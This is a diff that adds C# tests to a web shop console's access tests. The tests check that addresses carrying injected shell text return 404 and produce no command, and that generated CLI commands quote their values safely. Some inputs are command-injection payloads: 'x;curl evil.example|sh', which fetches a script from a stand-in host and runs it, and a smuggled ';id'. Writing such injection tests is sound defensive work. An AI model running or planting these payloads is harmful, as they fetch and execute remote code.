@@ -64,6 +64,19 @@ public sealed class ConsoleAccessTests(ConsoleShop shop)
     [InlineData("/console/moves/catalog/commands/nonsense", 404)]
     public async Task What_is_not_there_is_said_on_a_page(string address, int status) => (await ConsoleShop.SeeAsync(shop.Looking(), address, status)).ShouldContain("<h1");
 
+    [Theory]
+    [InlineData("/console/messages/x;curl%20evil.example|sh/retry?cause=a&type=b")]
+    [InlineData("/console/moves/x;curl%20evil.example|sh/pace/pause")]
+    [InlineData("/console/moves/x;curl%20evil.example|sh/create")]
+    [InlineData("/console/moves/x;curl%20evil.example|sh/commands/cancel")]
+    public async Task An_address_puts_nothing_of_its_own_into_a_command(string address) =>
+        (await ConsoleShop.SeeAsync(shop.Looking(), address, 404)).ShouldNotContain("data-command");
+
+    [Theory]
+    [InlineData("/console/messages/SHIPPING/retry?cause=a&type=b", "./shop messages retry Shipping --cause a --type b")]
+    [InlineData("/console/moves/CATALOG/pace/throttle?rows=10%3Bid", "./shop move throttle catalog --rows-per-second &quot;10;id&quot;")]
+    public async Task A_command_has_the_modules_own_name(string address, string command) => (await ConsoleShop.SeeAsync(shop.Looking(), address)).ShouldContain(command);
+
     private IEnumerable<(string Method, string Address)> Endpoints() => shop.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
         .Where(e => e.Metadata.GetMetadata<IEndpointNameMetadata>()?.EndpointName.StartsWith("Console.", StringComparison.Ordinal) == true)
         .Select(e => (e.Metadata.GetRequiredMetadata<IHttpMethodMetadata>().HttpMethods[0], Fill("/" + e.RoutePattern.RawText!.Trim('/'))));
